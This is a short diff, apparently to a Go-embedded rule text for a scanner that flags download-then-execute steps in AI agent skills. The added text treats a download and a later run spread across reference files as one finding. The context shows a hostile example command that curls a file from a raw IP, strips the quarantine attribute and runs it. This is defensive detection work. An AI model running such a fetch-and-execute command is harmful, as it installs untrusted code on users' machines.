@@ -27,6 +27,11 @@ that the same script or code block then runs: ` + "`chmod +x f && ./f`" + `, ` +
 cd $TMPDIR && curl -O http://<ip>/<id> && xattr -c <id> && chmod +x <id> && ./<id>
 ` + "```" + `
 
+The run may sit elsewhere in the skill: another code block, a reference file, a bundled shell
+script (a staged skill downloads in ` + "`references/setup.md`" + ` and runs in ` + "`references/install.md`" + `). Those
+are one session, so the pair is reported at the download with both steps; a checksum or signature
+check that names the file anywhere in the skill, or runs before the run in its block, clears it.
+
 **Critical** when the file comes from a raw IP, paste site, tunnel or file drop, over
 plain http, or when the quarantine attribute is stripped before running it;
 **medium** over https from a vendor's official download host, a project's release assets
